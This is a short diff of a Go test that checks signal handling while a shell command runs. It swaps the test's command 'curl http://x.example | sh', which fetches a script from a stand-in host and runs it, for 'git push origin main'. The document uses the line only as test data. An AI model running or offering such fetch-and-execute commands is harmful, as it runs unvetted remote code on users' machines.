@@ -134,7 +134,7 @@ func TestQuickSignalWhileAsked(t *testing.T) {
 	for _, sig := range []syscall.Signal{syscall.SIGINT, syscall.SIGQUIT, syscall.SIGUSR2} {
 		var cmd *exec.Cmd
 		if !heard(func(pause time.Duration) bool {
-			cmd = r.shell("sh", "-c", "curl http://x.example | sh")
+			cmd = r.shell("sh", "-c", "git push origin main")
 			if err := cmd.Start(); err != nil {
 				t.Fatal(err)
 			}
